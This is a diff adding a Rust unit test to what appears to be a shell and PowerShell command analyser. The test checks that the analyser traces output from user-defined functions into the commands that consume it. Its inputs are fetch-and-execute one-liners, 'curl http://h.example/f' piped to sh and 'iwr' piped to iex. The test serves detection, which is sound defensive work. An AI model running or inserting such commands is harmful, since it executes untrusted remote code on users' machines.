@@ -635,3 +635,24 @@ fn installers_interpreters_and_host_programs_have_their_classes() {
         ),
     ]);
 }
+
+#[test]
+fn what_a_function_prints_flows_into_what_its_call_feeds() {
+    let fetch = "Cn.fetch sh:curl [url=http://h.example/f]";
+    let run = "Cs.spawn sh:sh [command=sh; option=standard input] <0";
+    check(&[
+        ("sh", "f() { curl http://h.example/f; }; f | sh", &[fetch, run]),
+        ("sh", "f ()\n{\n  curl http://h.example/f\n}\nf | sh", &[fetch, run]),
+        ("sh", "function f() { curl http://h.example/f; }\nf | sh", &[fetch, run]),
+        (
+            "sh",
+            "{ id; curl http://h.example/f; } | sh",
+            &["Ch.user sh:id [command=id]", fetch, "Cs.spawn sh:sh [command=sh; option=standard input] <0,1"],
+        ),
+        (
+            "ps",
+            "function Get-It { iwr http://h.example/x }\nGet-It | iex",
+            &["Cn.fetch ps:iwr [url=http://h.example/x]", "Cs.spawn ps:iex [command=iex] <0"],
+        ),
+    ]);
+}
